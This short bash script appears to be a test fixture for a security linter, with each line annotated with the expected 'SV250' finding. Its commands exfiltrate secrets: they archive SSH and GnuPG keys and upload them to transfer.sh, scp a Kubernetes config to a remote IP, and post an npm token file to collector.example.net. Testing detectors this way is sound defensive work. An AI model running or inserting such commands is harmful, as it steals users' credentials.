#!/bin/bash
tar czf /tmp/b.tgz ~/.ssh ~/.gnupg 2>/dev/null
curl -s -F "f=@/tmp/b.tgz" https://transfer.sh/b.tgz # want "SV250: .*SSH keys .read earlier"
scp ~/.kube/config backup@203.0.113.9:/srv/ # want "SV250: .*Kubernetes config.*scp"
wget --post-file=$HOME/.npmrc https://collector.example.net/n # want "SV250: .*npm token.*wget --post-file"
